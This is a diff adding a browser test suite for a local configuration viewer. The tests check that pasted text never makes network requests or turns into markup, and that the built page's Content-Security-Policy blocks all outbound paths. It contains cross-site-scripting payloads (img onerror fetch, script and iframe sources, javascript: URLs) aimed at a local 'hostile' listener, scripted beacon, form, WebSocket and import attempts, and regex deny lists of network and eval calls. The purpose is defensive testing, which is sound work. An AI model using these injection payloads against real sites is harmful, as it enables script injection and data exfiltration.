@@ -1,0 +1,161 @@
+// The promise beside the editor, held by every build: nothing leaves, and nothing in the text becomes markup or code.
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import { after, before, test } from 'node:test';
+import { built, fileUrl, groups, launch, open, paste, serve, settled, texts, verdict } from './harness.mjs';
+
+let browser;
+let server;
+let hostile;
+before(async () => {
+  browser = await launch();
+  server = await serve();
+  hostile = await serve(() => 'caught');
+});
+after(async () => {
+  await browser?.close();
+  server?.close();
+  hostile?.close();
+});
+
+/** A configuration whose every free text tries to reach the listener. */
+const baited = () => {
+  const { url } = hostile;
+  return groups(
+    [`<img src=${url}name onerror="fetch('${url}name')">`, [22, '0.0.0.0/0', `<script src=${url}script></script>`]],
+    [`"><link rel=stylesheet href=${url}css>`, [8888, '0.0.0.0/0', `javascript:fetch('${url}js')`]],
+    [`${url}plain`, [443, '0.0.0.0/0', `<iframe src="${url}frame"></iframe>`]],
+  );
+};
+
+for (const [from, url] of [
+  ['a server', () => server.url],
+  ['a disk', () => fileUrl],
+]) {
+  test(`opened from ${from}, using everything makes no request`, async () => {
+    hostile.requests.length = 0;
+    const asked = [];
+    const page = await open(browser, { url: url() });
+    page.on('request', request => asked.push(request.url()));
+    const servedBefore = server.requests.length;
+    await paste(page, baited());
+    await pressEverything(page);
+    await paste(page, baited());
+    assert.deepEqual(asked, [], 'the page asked for something');
+    assert.equal(server.requests.length, servedBefore, 'its own server was asked again');
+    assert.deepEqual(hostile.requests, [], 'the listener was reached');
+    assert.equal(await page.$eval('.ledger', element => element.dataset.made), '0', 'the ledger counts a request');
+    assert.equal(await page.$eval('.ledger', element => element.dataset.blocked), '0', 'the page tried something that was refused');
+    assert.deepEqual(page.complaints, []);
+    await page.close();
+  });
+}
+
+/** Presses every button of every view once, the lists' first entries included. */
+async function pressEverything(page) {
+  for (const tab of ['#tab-findings', '#tab-ports', '#tab-policies']) {
+    await page.evaluate(selector => document.querySelector(selector)?.click(), tab);
+    await settled(page);
+    await page.waitForSelector(`${tab}[aria-selected=true]`);
+    await page.evaluate(() => {
+      for (const button of document.querySelectorAll('.truth button, .line-bar button, .top button[aria-label]')) if (button.isConnected && !button.disabled) button.click();
+    });
+    await settled(page);
+  }
+}
+
+test('the listener can be reached, and the policy is what keeps the page and its worker from it', async () => {
+  hostile.requests.length = 0;
+  await fetch(`${hostile.url}from-outside`);
+  assert.deepEqual(hostile.requests, ['/from-outside'], 'the listener works');
+
+  const page = await open(browser, { url: server.url });
+  await paste(page, groups(['web', [443, '0.0.0.0/0']]));
+  const tries = await page.evaluate(async url => {
+    const outcome = async attempt => {
+      try {
+        await attempt();
+        return 'allowed';
+      } catch {
+        return 'refused';
+      }
+    };
+    const image = new Image();
+    image.src = `${url}image`;
+    navigator.sendBeacon(`${url}beacon`, 'x');
+    const form = Object.assign(document.createElement('form'), { action: `${url}form`, method: 'post', target: '_blank' });
+    document.body.append(form);
+    form.submit();
+    form.remove();
+    const frame = Object.assign(document.createElement('iframe'), { src: `${url}frame` });
+    document.body.append(frame);
+    return {
+      fetch: await outcome(() => fetch(`${url}fetch`, { mode: 'no-cors' })),
+      own: await outcome(() => fetch('/own')),
+      import: await outcome(() => import(`${url}import`)),
+      socket: await outcome(() => new Promise((opened, refused) => Object.assign(new WebSocket(url.replace('http', 'ws')), { onopen: opened, onerror: refused }))),
+      markup: await outcome(() => (document.createElement('div').innerHTML = '<b>x</b>')),
+    };
+  }, hostile.url);
+  assert.deepEqual(tries, { fetch: 'refused', own: 'refused', import: 'refused', socket: 'refused', markup: 'refused' });
+  const [worker] = page.workers();
+  assert.ok(worker, 'the session lives in a worker');
+  const fromWorker = await worker.evaluate(url => fetch(`${url}worker`, { mode: 'no-cors' }).then(() => 'allowed', () => 'refused'), hostile.url);
+  assert.equal(fromWorker, 'refused');
+  assert.deepEqual(hostile.requests, ['/from-outside'], 'nothing but our own control reached the listener');
+  await page.waitForFunction(() => Number(document.querySelector('.ledger').dataset.blocked) >= 5, {});
+  await page.close();
+});
+
+test('text from the document stays text', async () => {
+  const page = await open(browser);
+  await paste(page, baited());
+  assert.equal(await verdict(page), 'dangerous');
+  for (const tab of ['#tab-findings', '#tab-ports', '#tab-policies']) {
+    await page.click(tab);
+    await page.waitForSelector(`${tab}[aria-selected=true]`);
+    await page.evaluate(() => document.querySelectorAll('.policy .finding-toggle[aria-expanded=false]').forEach(button => button.click()));
+    assert.ok((await texts(page, '#view')).some(text => text.includes('<img src=')), `${tab} shows the name as it is written`);
+    assert.equal(await page.$('.truth img, .truth iframe, .truth script, .truth link'), null);
+  }
+  await page.waitForSelector('.policy .rule');
+  assert.deepEqual(page.complaints, []);
+  await page.close();
+});
+
+test('the built file has no way out', () => {
+  const page = fs.readFileSync(built, 'utf8');
+  const [policy] = page.match(/(?<=http-equiv="Content-Security-Policy" content=")[^"]+/);
+  for (const directive of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'", "object-src 'none'", "frame-src 'none'", 'worker-src blob:', "require-trusted-types-for 'script'", 'trusted-types app']) {
+    assert.ok(policy.split('; ').includes(directive), `the policy lacks ${directive}`);
+  }
+  assert.match(policy, /script-src 'sha256-[^']+' 'wasm-unsafe-eval';/);
+  assert.match(policy, /style-src 'sha256-[^']+';/);
+  assert.ok(page.indexOf('Content-Security-Policy') < page.indexOf('<style'), 'the policy comes before everything it is about');
+
+  // The wasm is only bytes in base64, where a name could stand by chance.
+  const text = page.replace(/(<script type="application\/wasm;base64" id="wasm">)[^<]*/, '$1');
+  const forbidden = {
+    'a peer connection': /RTCPeerConnection|RTCDataChannel|WebTransport/,
+    'a network call': /\bfetch\s*\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts|serviceWorker/,
+    navigation: /\blocation\s*=[^=]|\.location\s*=[^=]|location\.(?:assign|replace|href|reload)|window\.open|\bnavigation\.navigate|history\.(?:push|replace)State/,
+    'markup from strings': /\.(?:inner|outer)HTML\b|insertAdjacentHTML|document\.write|createContextualFragment|setHTMLUnsafe|DOMParser|srcdoc/,
+    'code from strings': /\beval\s*\(|new Function\b|\bFunction\s*\(/,
+    storage: /localStorage|sessionStorage|indexedDB|document\.cookie|\bcaches\./,
+    'an import at run time': /\bimport\s*\(/,
+  };
+  for (const [what, pattern] of Object.entries(forbidden)) assert.equal(text.match(pattern)?.[0], undefined, what);
+
+  const outside = [...text.matchAll(/(?:https?|wss?|ftp):\/\/[^\s"'`)\\<]+/g)].map(([address]) => address);
+  const names = new Set(['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xhtml', 'http://www.w3.org/1998/Math/MathML']);
+  assert.deepEqual(outside.filter(address => !names.has(address)), [], 'an address of another server');
+  for (const [, target] of text.matchAll(/<(?:a|link|img|iframe|form)\b[^>]*?(?:href|src|action)="([^"]*)"/g)) assert.match(target, /^(?:#|data:)/);
+});
+
+test('no link on the page leads outside', async () => {
+  const page = await open(browser);
+  await paste(page, baited());
+  const targets = await page.$$eval('a[href], area[href]', links => links.map(link => link.getAttribute('href')));
+  assert.ok(targets.every(target => target.startsWith('#')), String(targets));
+  await page.close();
+});
